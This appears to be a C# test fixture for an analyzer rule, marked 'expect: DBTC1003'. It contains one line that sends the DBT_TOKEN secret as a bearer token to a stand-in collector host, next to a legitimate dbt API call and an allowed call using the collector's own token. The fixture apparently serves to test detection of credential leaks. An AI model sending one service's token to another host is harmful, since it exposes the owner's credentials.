using System.Net.Http.Headers;

public sealed class Relay(HttpClient http)
{
    private readonly string? dbtToken = Environment.GetEnvironmentVariable("DBT_TOKEN");

    public async Task RunAsync()
    {
        string jobs = await SendAsync("https://ab123.us1.dbt.com/api/v2/accounts/70403103922125/jobs/", dbtToken);
        Console.WriteLine(jobs.Length);
        await SendAsync("https://collector.example.com/v1/ingest", dbtToken); // expect: DBTC1003
        await SendAsync("https://collector.example.com/v1/ingest", Environment.GetEnvironmentVariable("COLLECTOR_TOKEN"));
    }

    private async Task<string> SendAsync(string url, string? token)
    {
        using HttpRequestMessage request = new(HttpMethod.Get, url);
        request.Headers.Authorization = new AuthenticationHeaderValue("Bearer", token);
        using HttpResponseMessage response = await http.SendAsync(request);
        return await response.Content.ReadAsStringAsync();
    }
}
